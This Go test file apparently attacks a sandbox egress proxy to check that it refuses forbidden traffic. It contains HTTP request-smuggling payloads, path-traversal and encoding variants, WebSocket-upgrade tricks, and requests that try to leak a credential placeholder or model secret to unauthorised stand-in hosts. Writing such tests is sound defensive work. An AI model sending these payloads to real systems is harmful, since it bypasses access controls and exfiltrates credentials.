//go:build docker

package runner

import (
	"fmt"
	"strings"
)

// fill puts a host and a mark into a text.
func fill(text, host, mark string) string {
	return strings.NewReplacer("HOST", host, "MARK", mark).Replace(text)
}

// smuggling are requests that two programs read as different ones.
func smuggling() []attack {
	const second = "GET /MARK HTTP/1.1\r\nHost: denied.example\r\n\r\n"
	chunked := func(body string, more ...string) string {
		return httpRequest("POST /a", "HOST", append([]string{"Transfer-Encoding: chunked"}, more...)...) + body
	}
	var all []attack
	for i, s := range []struct{ name, text string }{
		{"CL.TE", httpRequest("POST /a", "HOST", "Content-Length: 6", "Transfer-Encoding: chunked") + "0\r\n\r\n" + second},
		{"TE.CL", chunked("5c\r\n"+second+"0\r\n\r\n", "Content-Length: 4")},
		{"TE twice", chunked("0\r\n\r\n"+second, "Transfer-Encoding: identity")},
		{"TE with a blank before the colon", httpRequest("POST /a", "HOST", "Transfer-Encoding : chunked") + "0\r\n\r\n" + second},
		{"TE with an underscore", httpRequest("POST /a", "HOST", "Transfer_Encoding: chunked") + "0\r\n\r\n" + second},
		{"another TE", httpRequest("POST /a", "HOST", "Transfer-Encoding: xchunked") + "0\r\n\r\n" + second},
		{"CL twice", httpRequest("POST /a", "HOST", "Content-Length: 0", "Content-Length: 50") + second},
		{"CL with a sign", httpRequest("POST /a", "HOST", "Content-Length: +0") + second},
		{"CL with a list", httpRequest("POST /a", "HOST", "Content-Length: 0, 0") + second},
		{"bare LF", "GET /MARK HTTP/1.1\nHost: HOST\n\n"},
		{"bare LF between headers", "GET /MARK HTTP/1.1\r\nHost: HOST\r\nX: y\nZ: denied\r\n\r\n"},
		{"bare CR", "GET /MARK HTTP/1.1\r\nHost: HOST\r\nX: y\rHost: denied.example\r\n\r\n"},
		{"a continued line", "GET /MARK HTTP/1.1\r\nHost: HOST\r\nX: y\r\n Host: denied.example\r\n\r\n"},
		{"NUL in a header", "GET /MARK HTTP/1.1\r\nHost: HOST\r\nX: y\x00z\r\n\r\n"},
		{"a blank in the target", httpRequest("GET /MARK x", "HOST")},
		{"HTTP/2 without an upgrade", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK"},
		{"the size of a chunk in another notation", chunked("0x3\r\nabc\r\n0\r\n\r\n" + second)},
		{"a chunk that is longer than it says", chunked("1\r\nabc\r\n0\r\n\r\n" + second)},
		{"a chunk whose line ends in LF", chunked("3\nabc\r\n0\r\n\r\n" + second)},
		{"a Host among the trailers", chunked("0\r\nHost: denied.example\r\nX: MARK\r\n\r\n")},
	} {
		all = append(all, plainAttack("smuggling: "+s.name, fmt.Sprintf("g%d", i), s.text, "1", "403", "ECONNRESET"))
	}
	h2c := plainAttack("an upgrade to h2c", "g90", httpRequest("GET /a", "HOST", "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: MARK"), "1", "ok")
	h2c.recorded = allowedAt("g90.plain.example")
	return append(all, h2c)
}

// inspectedAttack says something to a host whose requests are looked at.
func inspectedAttack(name, label, text, answers string, refused ...string) attack {
	host, mark := label+".ruled.example", "mark-"+label
	return attack{
		name: name, op: "send", args: []string{host + ":443", host, fill(text, host, mark), answers}, refused: refused, mark: mark,
		by: "requests are decided one by one", control: "control: inspected", off: noRequests, recorded: refusedAt(host),
	}
}

// pipelines are forbidden requests behind an allowed one on the same connection.
func pipelines() []attack {
	first, second := httpRequest("GET /open/1", "HOST"), httpRequest("GET /closed/MARK", "HOST")
	h2 := func(label string, urls ...string) attack {
		a := inspectedAttack("keep-alive: a forbidden request after an allowed one, HTTP/2", label, "", "", "403")
		a.op, a.args = "fetch", append([]string{"h2", "GET", ""}, urls...)
		return a
	}
	trace := attack{
		name: "TRACE, which tells what was attached", op: "send", args: []string{"trace.model.example:443", "trace.model.example", httpRequest("TRACE /mark-trace", "trace.model.example"), "1"},
		refused: refusals("403"), mark: "mark-trace", tells: modelSecret, by: "TRACE is not passed on", control: "control: credential", off: anyMethod,
		recorded: refusedAt("trace.model.example"),
	}
	return []attack{
		inspectedAttack("keep-alive: a forbidden request after an allowed one", "k0", first+"{pause}"+second, "2", "403"),
		inspectedAttack("pipelining: both in one piece", "k1", first+second, "2", "403"),
		inspectedAttack("pipelining: CL and TE", "k2", httpRequest("POST /open/2", "HOST", "Content-Length: 6", "Transfer-Encoding: chunked")+"0\r\n\r\n"+second, "2", "403", "400"),
		inspectedAttack("pipelining: bare LF", "k3", "GET /open/3 HTTP/1.1\nHost: HOST\n\n"+second, "2", "403", "400"),
		inspectedAttack("pipelining: behind a WebSocket that the host ignores", "k4", httpRequest("GET /open/4", "HOST", "Connection: Upgrade", "Upgrade: websocket")+second, "2", "403", "ECONNRESET"),
		inspectedAttack("a method that no rule has", "k5", httpRequest("DELETE /open/MARK", "HOST"), "1", "403"),
		inspectedAttack("another method in a header", "k7", httpRequest("POST /open/MARK", "HOST", "Content-Length: 0", "X-HTTP-Method-Override: DELETE"), "1", "403"),
		inspectedAttack("another path in a header", "k8", httpRequest("GET /open/MARK", "HOST", "X-Original-URL: /closed/"), "1", "403"),
		h2("k6", "https://k6.ruled.example/open/1", "https://k6.ruled.example/closed/mark-k6"),
		trace,
	}
}

// paths are other spellings of what a rule does not have, or a deny rule has.
func paths() []attack {
	var all []attack
	add := func(zone, label, path string) {
		host, mark := label+"."+zone+".example", "mark-"+label
		all = append(all, attack{
			name: "path on a host with " + map[string]string{"ruled": "rules: ", "guarded": "a deny rule: "}[zone] + path, op: "send",
			args: []string{host + ":80", "", fill(httpRequest("GET "+path, host), host, mark), "1"}, refused: refusals("403", "400"), mark: mark,
			by: "one spelling of a path", control: "control: scoped package", off: noRequests, recorded: refusedAt(host),
		})
	}
	for i, p := range []string{
		"/closed/MARK", "/open/../closed/MARK", "/open/%2e%2e/closed/MARK", "/open/..%2fclosed/MARK", "/open/%252e%252e/closed/MARK", "/open//closed/MARK",
		"/open/..;/closed/MARK", `/open/..\closed/MARK`, "/open/..%5cclosed/MARK", "/OPEN/MARK", "/open%2FMARK", "/open/%00/MARK", "/npm/@scope/MARK", "/open/%2/MARK",
	} {
		add("ruled", fmt.Sprintf("p%d", i), p)
	}
	for i, p := range []string{
		"/private/MARK", "/PRIVATE/MARK", "/private%2FMARK", "/x/../private/MARK", "/./private/MARK", "//private/MARK", "/private;x/MARK", "/%70rivate/MARK", "/private%252FMARK",
	} {
		add("guarded", fmt.Sprintf("d%d", i), p)
	}
	return all
}

// webSockets are asked for where they are not allowed.
func webSockets() []attack {
	upgrade := []string{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="}
	host := inspectedAttack("a WebSocket of another host", "w1", httpRequest("GET /open/MARK", "denied.example", upgrade...), "1", "421")
	host.off, host.by = anyHost, "Host is the name that was dialled"
	return []attack{
		inspectedAttack("a WebSocket on a forbidden path", "w0", httpRequest("GET /closed/MARK", "HOST", upgrade...), "1", "403"),
		host,
		plainAttack("a WebSocket of another host, plain", "w2", httpRequest("GET /MARK", "denied.example", upgrade...), "1", "403"),
		plainAttack("a request behind a WebSocket that the host ignores, plain", "w3", httpRequest("GET /a", "HOST", upgrade...)+httpRequest("GET /MARK", "denied.example"), "2", "403", "ECONNRESET"),
	}
}

// strayPlaceholders send the placeholder where its credential is never attached.
func strayPlaceholders() []attack {
	var all []attack
	for _, zone := range []struct{ name, port, control string }{
		{"plain", ":80", "control: plain"}, {"ruled", ":443", "control: inspected"},
	} {
		for i, k := range []struct{ name, text string }{
			{"in a header", httpRequest("GET /open/MARK", "HOST", "Authorization: Bearer {token}")},
			{"in another header", httpRequest("GET /open/MARK", "HOST", "X-Debug: see {token}.")},
			{"as password of Basic", httpRequest("GET /open/MARK", "HOST", "Authorization: Basic {basic}")},
			{"in the query", httpRequest("GET /open/MARK?q={token}", "HOST")},
			{"in the path", httpRequest("GET /open/{token}/MARK", "HOST")},
			{"in a body", httpRequest("POST /open/a", "HOST", fmt.Sprintf("Content-Length: %d", len(modelSecret)+len(" mark-plain-5"))) + "{token} MARK"},
			{"in a body, split over chunks", httpRequest("POST /open/a", "HOST", "Transfer-Encoding: chunked") + splitInChunks(len(" mark-plain-6"))},
		} {
			label := fmt.Sprintf("%s-%d", zone.name, i)
			host, mark, server := label+"."+zone.name+".example", "mark-"+label, ""
			if zone.port == ":443" {
				server = host
			}
			all = append(all, attack{
				name: "the placeholder " + k.name + ", to a host that is " + zone.name, op: "send", args: []string{host + zone.port, server, fill(k.text, host, mark), "1"},
				refused: refusals("403", "ECONNRESET"), mark: mark, by: "a search for placeholders", control: zone.control, off: noSearch, recorded: leakAt(host),
			})
		}
	}
	return append(all, attack{
		name: "the placeholder over raw TCP", op: "send", args: []string{"leak.raw.example:25", "", "EHLO {token} mark-raw\r\n", "1"}, refused: refusals("ECONNRESET", "error"),
		mark: "mark-raw", by: "a search for placeholders", control: "control: raw", off: noSearch, recorded: leakAt("leak.raw.example"),
	})
}

// splitInChunks is a body whose first chunk ends within the placeholder, which is as long as the secret.
func splitInChunks(mark int) string {
	half := len(modelSecret) / 2
	return fmt.Sprintf("%x\r\n{first half}\r\n%x\r\n{second half} MARK\r\n0\r\n\r\n", half, len(modelSecret)-half+mark)
}

// ownValues are about a credential on its own hosts.
func ownValues() []attack {
	at := func(name, host, request, off string) attack {
		mark := "mark-" + strings.TrimSuffix(host, ".example")
		return attack{
			name: name, op: "send", args: []string{host + ":443", host, fill(request, host, mark), "1"}, refused: refusals("403"), mark: mark,
			by: "a credential is for its requests", control: "control: credential", off: off, recorded: refusedAt(host),
		}
	}
	planted := at("a token of somebody else's, where a credential is attached", "own.model.example", httpRequest("GET /MARK", "HOST", "Authorization: Bearer somebody-else"), noRequests)
	echo := at("an answer that repeats the credential", "echo.model.example", httpRequest("GET /", "HOST", "Authorization: Bearer {token}"), noRedaction)
	// The agent prints what it was answered. That its output had to be redacted tells that the credential was inside.
	echo.refused, echo.mark, echo.tells, echo.recorded = refusals("ok"), "", "[redacted:model]", allowedAt("echo.model.example")
	echo.by = "answers are redacted"
	body := at("an answer whose body repeats the credential", "body.model.example", httpRequest("GET /body", "HOST", "Authorization: Bearer {token}"), noRedaction)
	body.refused, body.mark, body.tells, body.recorded, body.by = refusals("ok"), "", echo.tells, allowedAt("body.model.example"), echo.by
	all := []attack{
		planted, echo, body,
		at("a credential with a method that its rules don't have", "m.bot.example", httpRequest("POST /open/MARK", "HOST", "Authorization: Bearer {bot}", "Content-Length: 0"), noRequests),
		at("a credential on a path that its rules don't have", "p.bot.example", httpRequest("GET /closed/MARK", "HOST", "Authorization: Bearer {bot}"), noRequests),
		at("a credential on another spelling of its path", "d.bot.example", httpRequest("GET /open/../closed/MARK", "HOST", "Authorization: Bearer {bot}"), noRequests),
	}
	return all
}
